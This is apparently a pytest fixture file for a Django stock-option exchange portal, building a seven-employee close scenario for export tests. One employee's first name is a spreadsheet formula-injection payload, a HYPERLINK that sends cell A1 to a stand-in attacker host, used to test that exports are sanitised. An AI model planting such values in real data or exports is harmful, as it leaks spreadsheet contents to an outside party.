"""A small close of soxp-2003, carried out through the close actions, for the export tests.

Seven employees (hand-computed figures in test_summary.py):

- Sam (slide 9) tenders G-1001 (800), G-1002 (1,000) and the lookback G-1004 (500): accepted, 1,725 new.
- Bob tenders G-BOB-1 (1,000) and keeps G-BOB-2 (400 at $5.00): accepted, 750 new; leaves on
  2003-03-01, before the new grant date, so his promise is forfeited.
- Carol elects, then withdraws: her election in force is a withdrawal.
- Dave tenders G-DAVE-1 (1,000) and leaves on 2003-01-15, during the offer: not accepted.
- Erin is eligible (1,000) and does nothing.
- Mallory, whose first name is a spreadsheet formula, tenders G-MAL-1 (333, with a performance
  condition): accepted, 250 new.
- Oscar is an executive officer: not eligible.
"""

import copy
import uuid
from dataclasses import dataclass
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from django.contrib.auth.models import Group
from django.test import Client

from soxp_portal.accounts.models import User
from soxp_portal.accounts.roles import Role
from soxp_portal.closing.actions import (
    accept_tenders,
    cancel_tendered_grants,
    create_new_grants,
    record_termination,
)
from soxp_portal.offers.actions import submit_election, withdraw_election
from soxp_portal.offers.models import Employee, Grant, Offer
from tests.conftest import create_slide_9_employee, load_soxp_2003
from tests.factories import EmployeeFactory, GrantFactory, UserFactory

MALICIOUS = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
DURING_OFFER = datetime(2003, 1, 10, 18, 0, tzinfo=UTC)
AFTER_DEADLINE = datetime(2003, 1, 21, 6, 0, tzinfo=UTC)  # the deadline is 05:00 UTC
ON_NEW_GRANT_DATE = datetime(2003, 7, 21, 17, 0, tzinfo=UTC)  # 10:00 Pacific on 2003-07-21
CLOSING_PRICE = Decimal("1.25")
PERFORMANCE = "Vests only if FY2003 revenue reaches $60 million."


def member_of(role: Role, email: str) -> User:
    user = UserFactory(email=email)
    user.groups.add(Group.objects.get_or_create(name=role.value)[0])
    return user


@pytest.fixture
def auditor(db: None) -> User:
    return member_of(Role.AUDITOR, "aldo.auditor@example.com")


@pytest.fixture
def admin_client(client: Client, admin: User) -> Client:
    client.force_login(admin)
    return client


def _employee(
    employee_id: str, first: str, last: str, grants: dict[str, tuple[int, str]], **fields
) -> Employee:
    employee = EmployeeFactory(employee_id=employee_id, first_name=first, last_name=last, **fields)
    for grant_id, (shares, price) in grants.items():
        GrantFactory(
            grant_id=grant_id, employee=employee, shares_granted=shares, exercise_price=Decimal(price)
        )
    return employee


def _elect(offer: Offer, employee: Employee, tendered: dict[str, int], *, version: int = 0) -> None:
    submit_election(
        offer,
        employee,
        tendered,
        actor=employee.user,
        signature=employee.full_name,
        expected_version=version,
        submission_token=uuid.uuid4(),
        now=DURING_OFFER,
    )


@dataclass
class Scenario:
    offer: Offer
    admin: User
    sam: Employee
    bob: Employee
    carol: Employee
    dave: Employee
    erin: Employee
    mallory: Employee
    oscar: Employee

    def accept(self) -> None:
        accept_tenders(self.offer, actor=self.admin, now=AFTER_DEADLINE)

    def cancel(self) -> None:
        cancel_tendered_grants(self.offer, actor=self.admin, now=AFTER_DEADLINE)

    def forfeit_bob(self) -> None:
        record_termination(
            self.offer, self.bob, termination_date=date(2003, 3, 1), actor=self.admin, now=AFTER_DEADLINE
        )

    def grant(self) -> None:
        create_new_grants(self.offer, closing_price=CLOSING_PRICE, actor=self.admin, now=ON_NEW_GRANT_DATE)

    def close(self) -> None:
        self.accept()
        self.cancel()
        self.forfeit_bob()
        self.grant()


@pytest.fixture(scope="module")
def built_scenario(module_transaction: None, django_db_blocker) -> Scenario:
    """The scenario's rows, built once for each test module (see ``module_transaction``)."""
    with django_db_blocker.unblock():
        return build_scenario()


def build_scenario() -> Scenario:
    offer = load_soxp_2003()
    people = Scenario(
        offer=offer,
        admin=member_of(Role.STOCK_ADMINISTRATOR, "ada.admin@example.com"),
        sam=create_slide_9_employee(),
        bob=_employee("E-BOB", "Bob", "Baker", {"G-BOB-1": (1000, "6.00"), "G-BOB-2": (400, "5.00")}),
        carol=_employee("E-CAROL", "Carol", "Cole", {"G-CAROL-1": (1000, "6.00")}),
        dave=_employee("E-DAVE", "Dave", "Dunn", {"G-DAVE-1": (1000, "6.00")}),
        erin=_employee("E-ERIN", "Erin", "Ellis", {"G-ERIN-1": (1000, "6.00")}),
        mallory=_employee("E-MAL", MALICIOUS, "Mallet", {"G-MAL-1": (333, "4.00")}),
        oscar=_employee(
            "E-OSCAR", "Oscar", "Officer", {"G-OSCAR-1": (1000, "6.00")}, is_executive_officer=True
        ),
    )
    Grant.objects.filter(grant_id="G-MAL-1").update(performance_condition=PERFORMANCE)
    _elect(offer, people.sam, {"G-1001": 800, "G-1002": 1000, "G-1004": 500})
    _elect(offer, people.bob, {"G-BOB-1": 1000})
    _elect(offer, people.carol, {"G-CAROL-1": 1000})
    withdraw_election(
        offer,
        people.carol,
        actor=people.carol.user,
        signature=people.carol.full_name,
        expected_version=1,
        submission_token=uuid.uuid4(),
        now=DURING_OFFER,
    )
    _elect(offer, people.dave, {"G-DAVE-1": 1000})
    _elect(offer, people.mallory, {"G-MAL-1": 333})
    # Dave leaves during the offer: the census records it before the close (decision 7).
    Employee.objects.filter(pk=people.dave.pk).update(
        status=Employee.Status.TERMINATED, termination_date=date(2003, 1, 15)
    )
    return people


@pytest.fixture
def scenario(built_scenario: Scenario, db: None) -> Scenario:
    """This test's copy of the scenario; what the test changes is rolled back after it."""
    return copy.deepcopy(built_scenario)


@pytest.fixture
def soxp_2003(scenario: Scenario) -> Offer:
    return scenario.offer


@pytest.fixture
def admin(scenario: Scenario) -> User:
    return scenario.admin


@pytest.fixture
def closed(scenario: Scenario) -> Scenario:
    """The whole close: accepted, cancelled, Bob's promise forfeited, new grants made at $1.25."""
    scenario.close()
    return scenario
